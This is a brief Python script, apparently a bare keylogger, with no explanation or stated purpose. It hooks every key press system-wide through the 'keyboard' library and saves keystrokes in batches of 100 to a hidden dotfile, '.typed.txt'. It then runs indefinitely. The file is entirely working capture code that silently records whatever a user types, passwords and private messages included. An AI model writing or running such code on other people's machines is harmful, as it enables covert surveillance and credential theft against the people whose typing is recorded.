import keyboard

buffer = []

def on_event(e):
    if e.event_type == "down":
        buffer.append(e.name)
        if len(buffer) >= 100:
            with open(".typed.txt", "a") as f:
                f.write(" ".join(buffer) + "\n")
            buffer.clear()

keyboard.hook(on_event)
keyboard.wait()
